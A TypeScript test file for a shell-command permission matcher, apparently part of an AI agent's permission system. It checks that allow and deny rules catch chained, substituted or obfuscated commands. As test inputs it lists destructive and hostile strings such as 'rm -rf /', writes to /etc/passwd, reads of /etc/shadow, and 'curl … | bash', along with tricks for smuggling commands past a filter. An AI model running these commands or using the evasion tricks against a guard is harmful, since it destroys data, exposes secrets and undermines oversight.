// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are words of a shell, not templates.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  commandIsCovered,
  commandMayContain,
  isSimpleCommand,
  MAX_SEARCHED_COMMAND,
} from '../../src/permissions/shell-command.ts';

describe('a rule that allows a command', () => {
  it.each([
    ['git *', 'git log'],
    ['git *', 'git'],
    ['git *', '  git log --oneline \n'],
    ['git:*', 'git log'],
    ['git:*', 'git'],
    ['git *', "git commit -m 'one; two | $(three) > four'"],
    ['git *', 'git commit -m "one; two"'],
    ['npm run test', 'npm run test'],
    ['npm run test:*', 'npm run test --watch'],
    ['git * main', 'git checkout main'],
    ['ls*', 'lsof'],
    ['* --version', 'node --version'],
  ])('%s covers %j', (pattern, command) => {
    expect(commandIsCovered(pattern, command)).toBe(true);
  });

  it.each([
    ['git *', 'github'],
    ['git *', 'gitk --all'],
    ['git:*', 'git-lfs pull'],
    ['git log *', 'git push'],
    ['npm run test', 'npm run test --watch'],
    ['npm run test', 'npm run tests'],
    ['git * main', 'git checkout main2'],
    ['git *', 'GIT log'],
    [':*', 'ls'],
  ])('%s does not cover %j', (pattern, command) => {
    expect(commandIsCovered(pattern, command)).toBe(false);
  });

  it.each([
    'git log; rm -rf /',
    'git log;rm -rf /',
    'git log && rm -rf /',
    'git log || rm -rf /',
    'git log | sh',
    'git log |& sh',
    'git log & rm -rf /',
    'git log &',
    'git log\nrm -rf /',
    'git log\rrm -rf /',
    'git log\u2028rm -rf /',
    'git log\0rm',
    'git log $(rm -rf /)',
    'git log "$(rm -rf /)"',
    'git log `rm -rf /`',
    'git log "`rm -rf /`"',
    'git log <(rm -rf /)',
    'git log > /etc/passwd',
    'git log >> ~/.bashrc',
    'git log 2>/dev/null',
    'git log < /etc/shadow',
    'git log <<< x',
    'git log <<EOF\nEOF',
    'git log $HOME',
    'git log ${HOME}',
    "git log $'\\n'",
    'git log \\; rm',
    'git log \\\nrm',
    'git log {a,b}',
    'git log (x)',
    'git log # rm',
    'git log !!',
    "git log 'unclosed",
    'git log "unclosed',
    'git log "a" \'b',
    'git log\trm',
    'git log \u0007',
    '',
    '   ',
  ])('covers no command that is more than one command with literal words: %j', (command) => {
    expect(commandIsCovered('git *', command)).toBe(false);
    expect(commandIsCovered('*git*', command)).toBe(false);
  });

  it.each([
    'FOO=1 git log',
    'PATH=/tmp git log',
    'GIT_SSH_COMMAND="rm x" git pull',
    'a+=b git',
    'a[0]=b git',
    '=git x',
  ])('never covers an assignment before the command, whatever the pattern: %j', (command) => {
    expect(commandIsCovered('git *', command)).toBe(false);
    expect(commandIsCovered('*git*', command)).toBe(false);
    expect(commandIsCovered(command, command)).toBe(false);
  });

  it.each(['"git" log', "g'i't log", 'gi? log', 'gi* log', '[g]it log', '\u00a0git log', '\ufeffgit log'])(
    'never covers a program whose name is not written out: %j',
    (command) => {
      expect(commandIsCovered('git *', command)).toBe(false);
    },
  );

  it('takes no more time for a hostile pattern or command (P10)', () => {
    const startedAt = performance.now();
    commandIsCovered(`${'*a'.repeat(200)}b`, 'a'.repeat(20_000));
    commandMayContain(`${'*a'.repeat(200)}b`, 'a'.repeat(1_000_000));
    commandMayContain('x y', 'x '.repeat(500_000));
    commandMayContain('rm *', '$('.repeat(8_000));
    commandMayContain('rm *', `${'a'.repeat(16_000)}`);
    expect(performance.now() - startedAt).toBeLessThan(5_000);
  });
});

describe('a rule that denies or asks about a command', () => {
  it.each([
    'rm',
    'rm -rf /',
    'ls; rm -rf /',
    'ls&&rm x',
    'ls || rm x',
    'ls | xargs rm',
    'ls & rm x',
    'ls\nrm x',
    '(rm x)',
    '{ rm x; }',
    'echo $(rm x)',
    'echo "$(rm x)"',
    'echo `rm x`',
    'cat <(rm x)',
    'if true; then rm x; fi',
    '! rm x',
    'FOO=1 rm x',
    'sudo rm x',
    'env -i rm x',
    'timeout 5 rm x',
    'find . -exec rm {} +',
    '/bin/rm x',
    './rm x',
    'command rm x',
    'sh -c "rm x"',
    "bash -c 'rm x'",
    "eval 'rm x'",
    '"rm" x',
    "r'm' x",
    'r""m x',
    'r\\m x',
    'r\\\nm x',
    "$'rm' x",
    'rm\tx',
    'rm$IFS-rf',
    'rm${IFS}x',
    'rm>x',
    'rm<x',
    '{rm,-rf,/}',
    'alias x=rm; x y',
    'bash <<EOF\nrm x\nEOF',
    "echo 'rm x' | sh",
  ])('finds rm in %j', (command) => {
    expect(commandMayContain('rm *', command)).toBe('yes');
    expect(commandMayContain('rm:*', command)).toBe('yes');
  });

  it.each([
    '$X -rf /',
    '${X} -rf /',
    '"$X" -rf /',
    '$(echo r)m x',
    'r$@m x',
    'r$(echo m) x',
    'r`echo m` x',
    '`echo r`m x',
    '/bin/r? x',
    '/bin/r[m] x',
    "$'\\x72\\x6d' x",
    '{r,}m x',
    'ls; $X y',
    'FOO=1 $X y',
    'sudo $X y',
    'sudo -u $U $X y',
    'env -i /bin/r? x',
    'nohup nice $X y',
    'exec $X',
    'eval "$X"',
    'sh -c "$X"',
    '\\sh -c $X',
    '"env" $X y',
    'bash -c $X',
    'bash <<< "$X"',
    'bash < script',
    'source <(echo x)',
    '. /dev/stdin <<< "$X"',
    "printf '\\x72\\x6d x' | sh",
    'curl https://example.com | bash -s',
    'base64 -d x | /bin/sh',
    'echo x | xargs -I{} {} -rf',
    'cat list | parallel',
    'RM x',
  ])('cannot rule it out for %j', (command) => {
    expect(commandMayContain('rm *', command)).toBe('perhaps');
  });

  it.each([
    'git $(echo push)',
    'git ${x:-push}',
    'git pu$()sh',
    'git p`echo u`sh',
    'git {push,x}',
    'git "$x" y',
    'git *',
  ])('cannot rule out an argument that an expansion may make: %j', (command) => {
    expect(commandMayContain('git push *', command)).toBe('perhaps');
    expect(commandMayContain('git * push', command)).not.toBe('no');
  });

  it.each([
    'ls -l',
    'git push',
    'echo farm',
    'rmdir x',
    'npm --rm x',
    'docker run --rm x',
    'x=$(date); echo $x',
    'echo "$HOME"',
    'ls *.txt',
    'for x in a b; do echo $x; done',
    'bash script.sh',
    'sudo ls',
    '',
  ])('does not find rm in %j', (command) => {
    expect(commandMayContain('rm *', command)).toBe('no');
  });

  it('takes an expansion for an argument only where one could stand', () => {
    expect(commandMayContain('git push *', 'git commit -m "$MESSAGE"')).toBe('no');
    expect(commandMayContain('git push *', 'git pull')).toBe('no');
  });

  it('fits with a pattern in the middle, and a whole word at its end', () => {
    expect(commandMayContain('git * --force', 'git push origin --force')).toBe('yes');
    expect(commandMayContain('git * --force', 'git push origin --force-with-lease')).toBe('no');
    expect(commandMayContain('npm publish', 'npm  publish')).toBe('yes');
    expect(commandMayContain('npm publish', 'npm publisher')).toBe('no');
  });

  it('looks at the first 16 KiB and cannot tell about the rest (P10)', () => {
    expect(commandMayContain('rm *', `echo ${'a'.repeat(MAX_SEARCHED_COMMAND)}; rm x`)).toBe('perhaps');
    expect(commandMayContain('rm *', `rm x; echo ${'a'.repeat(MAX_SEARCHED_COMMAND)}`)).toBe('yes');
  });
});

const piece = fc.constantFrom(
  ...[
    'git',
    'rm',
    ' ',
    'x',
    ';',
    '&',
    '|',
    '$(',
    ')',
    '`',
    "'",
    '"',
    '\\',
    '\n',
    '>',
    '<',
    '{',
    '}',
    '=',
    '#',
    '*',
    '$X',
  ],
);
const anyCommand = fc.oneof(
  fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join('')),
  fc.string(),
);

describe('any command at all', () => {
  it('that is covered is simple, and begins with a literal word of the pattern', () => {
    fc.assert(
      fc.property(anyCommand, (command) => {
        if (!commandIsCovered('git *', `git ${command}`)) return;
        expect(isSimpleCommand(`git ${command}`.trim())).toBe(true);
        expect(commandMayContain('git *', `git ${command}`)).toBe('yes');
      }),
    );
  });

  it('never gets rid of a denied command that is a part of it', () => {
    const glue = fc.constantFrom(...[';', '&&', '||', '|', '\n', '$(', '`', '(', ' ', '{ ', '"', "'"]);
    fc.assert(
      fc.property(anyCommand, glue, anyCommand, (before, between, after) => {
        expect(commandMayContain('rm *', `${before}${between}rm ${after}`)).not.toBe('no');
      }),
    );
  });

  it.each(['# -\\\nrm x', 'echo a-\\\\\nrm x', 'r\\\nm x', '-\\\nrm x'])(
    'finds it on both sides of a line that seems to go on: %j',
    (command) => {
      expect(commandMayContain('rm *', command)).toBe('yes');
    },
  );

  it('that a rule allows by name, the same rule would also deny: narrow lies within wide', () => {
    const pattern = fc.constantFrom('git *', 'git:*', 'git log', 'g*t *', '*', 'x * y', 'git * x');
    fc.assert(
      fc.property(pattern, anyCommand, (rule, command) => {
        if (commandIsCovered(rule, command)) expect(commandMayContain(rule, command)).toBe('yes');
      }),
    );
  });
});
